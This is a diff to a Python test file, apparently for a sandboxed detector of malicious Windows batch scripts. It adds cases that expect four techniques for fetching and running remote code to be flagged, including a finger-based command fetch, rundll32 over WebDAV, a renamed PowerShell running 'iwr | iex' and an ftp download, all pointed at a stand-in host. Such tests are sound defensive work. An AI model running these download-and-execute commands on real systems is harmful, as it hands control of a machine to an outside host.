@@ -124,3 +124,31 @@ def test_a_file_named_as_a_program_does_not_start_itself(cmd: ScriptEnvironment)
 def test_other_variables_are_another_run_of_itself(cmd: ScriptEnvironment) -> None:
     text = '@if "%again%"=="" (set again=1& cmd /c "%~f0" & exit /b)\n@echo inside'
     assert _printed(_run(cmd, text)) == ["inside"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "for /f \"tokens=1 delims=|\" %%a in ('finger run@a.example') do call %%a",
+        "rundll32.exe \\\\a.example@8080\\files\\a.dll,entry",
+        "copy C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe %TEMP%\\x.exe\n"
+        '%TEMP%\\x.exe -c "iwr http://a.example/ | iex"',
+        "(echo open a.example\necho get a.exe) > %TEMP%\\f.txt\nftp -s:%TEMP%\\f.txt",
+    ],
+)
+def test_ways_to_bring_code_in(cmd: ScriptEnvironment, code: str) -> None:
+    assert verdict_of(_run(cmd, code)) is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "net use S: \\\\corp.example@SSL\\DavWWWRoot\\shared",
+        "echo put C:\\Reports\\a.csv> %TEMP%\\f.txt\nftp -n -s:%TEMP%\\f.txt",
+        'powershell -NoProfile -Command "Get-Date"\npowershell -Command "Get-Service"\n'
+        'powershell -Command "Get-ChildItem C:\\Logs"',
+    ],
+)
+def test_work_of_administrators_is_clean(cmd: ScriptEnvironment, code: str) -> None:
+    result = _run(cmd, code)
+    assert (verdict_of(result), result.stopped_by) == (Verdict.CLEAN, None)
